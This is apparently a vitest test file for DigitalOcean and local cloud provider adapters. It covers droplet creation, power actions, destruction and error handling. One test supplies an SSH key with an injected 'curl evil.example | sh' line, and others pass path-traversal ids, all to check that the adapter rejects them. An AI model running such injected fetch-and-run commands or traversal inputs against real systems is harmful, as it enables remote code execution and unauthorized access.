import { spawn } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { CloudProviderError, type CloudProvider } from '../src/adapters/cloud/cloud-provider.js';
import { createDigitalOceanProvider } from '../src/adapters/cloud/digitalocean-provider.js';
import { createLocalCloudProvider } from '../src/adapters/cloud/local-provider.js';
import { localPilotAccount } from '../src/adapters/server-transport/local-account.js';
import { startFakeDigitalOcean, type FakeDigitalOcean } from './support/fake-digitalocean.js';
import { ed25519KeyPair } from './support/ssh-keys.js';

const kindOf = (promise: Promise<unknown>) =>
  promise.then(
    () => 'resolved',
    (error: unknown) => (error instanceof CloudProviderError ? error.kind : `unexpected: ${String(error)}`),
  );

const request = (key: string) => ({
  name: 'starter-ab12',
  region: 'lon1',
  size: 's-1vcpu-1gb',
  image: 'ubuntu-24-04-x64',
  sshPublicKey: key,
  setupScript: 'apt-get update -qq && apt-get install -y -qq git nodejs npm',
});

describe('the DigitalOcean adapter, against a fake DigitalOcean', () => {
  let fake: FakeDigitalOcean;
  let cloud: CloudProvider;
  beforeAll(async () => {
    fake = await startFakeDigitalOcean();
    cloud = createDigitalOceanProvider({ token: fake.token, apiUrl: fake.url });
  });
  afterAll(() => fake.close());

  it('creates a droplet in lon1 that lets Aerie’s key in, and finds its public address by polling', async () => {
    const key = ed25519KeyPair('aerie-pilot').public;
    fake.delayAddresses(1);
    const created = await cloud.create(request(key));
    expect(created).toEqual({ id: expect.stringMatching(/^\d+$/), status: 'new', ipv4: null, locked: false });

    const [create] = fake.creates().slice(-1);
    expect(create!.authorization).toBe(`Bearer ${fake.token}`);
    const body = create!.body as Record<string, unknown>;
    expect(body).toMatchObject({
      name: 'starter-ab12',
      region: 'lon1',
      size: 's-1vcpu-1gb',
      image: 'ubuntu-24-04-x64',
      tags: ['aerie'],
    });
    expect(body.user_data).toMatch(/^#!\/bin\/bash\n/);
    expect(body.user_data).toContain(`'${key}'`);
    expect(body.user_data).toContain('/root/.ssh/authorized_keys');
    expect(body.user_data).toContain('apt-get install -y -qq git nodejs npm');

    // Still booting: no address yet; the next look has the public one, not the private one listed first.
    expect(await cloud.describe(created.id)).toEqual({ id: created.id, status: 'new', ipv4: null, locked: false });
    const ready = await cloud.describe(created.id);
    expect(ready.status).toBe('active');
    expect(ready.ipv4).toMatch(/^203\.0\.113\.\d+$/);
  });

  it('refuses a key that is not one OpenSSH public key line before anything is sent', async () => {
    const before = fake.creates().length;
    const evil = `${ed25519KeyPair().public}\ncurl evil.example | sh`;
    expect(await kindOf(cloud.create(request(evil)))).toBe('failed');
    expect(fake.creates()).toHaveLength(before);
  });

  it('runs power actions, and a second action while the first runs is `locked`', async () => {
    const { id } = await cloud.create(request(ed25519KeyPair().public));
    await cloud.describe(id);
    await cloud.act(id, 'power_off');
    expect(await kindOf(cloud.act(id, 'power_on'))).toBe('locked');
    const during = await cloud.describe(id);
    expect(during.locked).toBe(true);
    expect((await cloud.describe(id)).status).toBe('off');

    await cloud.act(id, 'power_on');
    await cloud.describe(id);
    expect(await cloud.describe(id)).toMatchObject({ status: 'active', locked: false });

    await cloud.act(id, 'reboot');
    expect((await cloud.describe(id)).status).toBe('off');
    expect((await cloud.describe(id)).status).toBe('active');

    const action = fake.requests.filter((entry) => entry.path === `/v2/droplets/${id}/actions`).at(-1);
    expect(action).toMatchObject({ method: 'POST', body: { type: 'reboot' } });
  });

  it('destroys a droplet (then it is `not_found`), and destroying a missing one is fine', async () => {
    const { id } = await cloud.create(request(ed25519KeyPair().public));
    await cloud.destroy(id);
    expect(fake.droplets.has(Number(id))).toBe(false);
    expect(await kindOf(cloud.describe(id))).toBe('not_found');
    expect(await kindOf(cloud.act(id, 'power_on'))).toBe('not_found');
    expect(await kindOf(cloud.destroy(id))).toBe('resolved');
    // An id that is not a droplet id never reaches the URL.
    expect(await kindOf(cloud.describe('1/../../account'))).toBe('not_found');
  });

  it('reports a refused token as `unauthorized` without the token in the message', async () => {
    const wrong = createDigitalOceanProvider({ token: 'dop_v1_not-the-token', apiUrl: fake.url });
    const error = await wrong.create(request(ed25519KeyPair().public)).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(CloudProviderError);
    expect((error as CloudProviderError).kind).toBe('unauthorized');
    expect((error as CloudProviderError).message).not.toContain('dop_v1_not-the-token');
    expect((error as CloudProviderError).message).not.toContain(fake.token);
  });

  it('reports an unreachable API as `failed`', async () => {
    const closed = await startFakeDigitalOcean();
    await closed.close();
    const gone = createDigitalOceanProvider({ token: closed.token, apiUrl: closed.url });
    expect(await kindOf(gone.describe('42'))).toBe('failed');
  });
});

const isRunning = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

async function waitUntilGone(pid: number) {
  // SIGKILL is immediate; being reaped takes a moment, allowed for here (no timing is asserted).
  for (let waited = 0; isRunning(pid) && waited < 5_000; waited += 50) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

describe('the local provider', () => {
  let root: string;
  let cloud: CloudProvider;
  const account = localPilotAccount('nobody');
  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), 'aerie-local-cloud-'));
    // mkdtemp makes it 0700: the pilot account must be able to pass through it.
    chmodSync(root, 0o711);
    cloud = createLocalCloudProvider({
      directory: join(root, 'data', 'pilots'),
      dataDir: join(root, 'data'),
      pilotUser: 'nobody',
    });
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it('creates a directory of the pilot account’s own, new at first and active at 127.0.0.1 after', async () => {
    const created = await cloud.create(request(''));
    expect(created).toEqual({
      id: expect.stringMatching(/^lp-[a-f0-9]{20}$/),
      status: 'new',
      ipv4: null,
      locked: false,
    });
    const info = statSync(join(root, 'data', 'pilots', created.id));
    expect(info.mode & 0o777).toBe(0o700);
    if (account) expect(info.uid).toBe(account.uid);
    expect(await cloud.describe(created.id)).toEqual({
      id: created.id,
      status: 'active',
      ipv4: '127.0.0.1',
      locked: false,
    });
  });

  it('keeps the power state where the pilot cannot reach it, across a new provider (a restart)', async () => {
    const { id } = await cloud.create(request(''));
    await cloud.describe(id);
    await cloud.act(id, 'power_off');
    const again = createLocalCloudProvider({
      directory: join(root, 'data', 'pilots'),
      dataDir: join(root, 'data'),
      pilotUser: 'nobody',
    });
    expect((await again.describe(id)).status).toBe('off');
    await again.act(id, 'power_on');
    expect((await cloud.describe(id)).status).toBe('active');
    const stateDir = statSync(join(root, 'data', 'pilots', '.state'));
    expect(stateDir.uid).toBe(process.getuid!());
    expect(stateDir.mode & 0o777).toBe(0o700);
  });

  it('stops what the pilot started on reboot and power off, and nothing else', async () => {
    const { id } = await cloud.create(request(''));
    await cloud.describe(id);
    const directory = join(root, 'data', 'pilots', id);
    const start = () =>
      spawn('sleep', ['60'], { cwd: directory, uid: account?.uid, gid: account?.gid, detached: true, stdio: 'ignore' });
    const inside = start();
    const outside = spawn('sleep', ['60'], {
      cwd: root,
      uid: account?.uid,
      gid: account?.gid,
      detached: true,
      stdio: 'ignore',
    });
    try {
      await cloud.act(id, 'reboot');
      await waitUntilGone(inside.pid!);
      expect(isRunning(inside.pid!)).toBe(false);
      expect(isRunning(outside.pid!)).toBe(true);
      expect((await cloud.describe(id)).status).toBe('active');

      const second = start();
      await cloud.act(id, 'power_off');
      await waitUntilGone(second.pid!);
      expect(isRunning(second.pid!)).toBe(false);
    } finally {
      outside.kill('SIGKILL');
    }
  });

  it('destroys the directory; a destroyed or unknown pilot is `not_found`', async () => {
    const { id } = await cloud.create(request(''));
    await cloud.destroy(id);
    expect(() => statSync(join(root, 'data', 'pilots', id))).toThrow();
    expect(await kindOf(cloud.describe(id))).toBe('not_found');
    expect(await kindOf(cloud.act(id, 'reboot'))).toBe('not_found');
    expect(await kindOf(cloud.destroy(id))).toBe('resolved');
    expect(await kindOf(cloud.describe('../../etc'))).toBe('not_found');
  });

  it.runIf(account)('refuses when a directory above DATA_DIR is closed to the pilot account', async () => {
    const closed = mkdtempSync(join(tmpdir(), 'aerie-closed-'));
    try {
      mkdirSync(join(closed, 'data'));
      writeFileSync(join(closed, 'data', 'keep'), 'x');
      const shut = createLocalCloudProvider({
        directory: join(closed, 'data', 'pilots'),
        dataDir: join(closed, 'data'),
        pilotUser: 'nobody',
      });
      expect(await kindOf(shut.create(request('')))).toBe('failed');
    } finally {
      rmSync(closed, { recursive: true, force: true });
    }
  });
});
